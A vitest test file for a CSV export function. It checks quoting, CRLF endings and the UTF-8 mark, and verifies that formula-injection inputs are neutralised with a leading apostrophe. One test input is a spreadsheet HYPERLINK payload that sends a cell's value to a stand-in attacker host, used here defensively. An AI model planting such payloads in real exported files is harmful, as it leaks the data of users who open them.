// Rows as CSV: what is quoted, what is kept from being a formula.
import { expect, it } from "vitest";
import { csvText } from "../../src/pages/csv.ts";

const cellOf = (value: string) =>
  csvText(["a"], [[value]])
    .split("\uFEFFa\r\n")[1]
    ?.slice(0, -2);

it("is lines of values with CRLF, after a mark that says UTF-8", () => {
  expect(
    csvText(
      ["id", "name"],
      [
        [1, "Ada"],
        ["9223372036854775807", null],
        [true, undefined],
        [false, ""],
      ],
    ),
  ).toBe("\uFEFFid,name\r\n1,Ada\r\n9223372036854775807,\r\ntrue,\r\nfalse,\r\n");
});

it.each([
  ["Ada", "Ada"],
  ["King, Ada", '"King, Ada"'],
  ['"Ada"', '"""Ada"""'],
  ["a\nb", '"a\nb"'],
  ["a;b", '"a;b"'],
  [" a", '" a"'],
  ["a ", '"a "'],
  ["José ✓", "José ✓"],
  ["a=1", "a=1"],
  ["a-b@example.com", "a-b@example.com"],
])("writes %j as %s", (text, expected) => {
  expect(cellOf(text)).toBe(expected);
});

it.each([
  ["=1+1", "'=1+1"],
  ["+49 30 1234", "'+49 30 1234"],
  ["-1", "'-1"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["＝1+1", "'＝1+1"],
  ["＋1", "'＋1"],
  ["－1", "'－1"],
  ["＠a", "'＠a"],
  ["  =1+1", '"  \'=1+1"'],
  ["\t=1+1", '"\t\'=1+1"'],
  ["\tada", '"\'\tada"'],
  ["\rada", '"\'\rada"'],
  ["ada\n=1+1", '"ada\n\'=1+1"'],
  ["ada;=1+1", '"ada;\'=1+1"'],
  ["ada;  @a;+b", "\"ada;  '@a;'+b\""],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
])("lets %j be no formula", (text, expected) => {
  expect(cellOf(text)).toBe(expected);
});
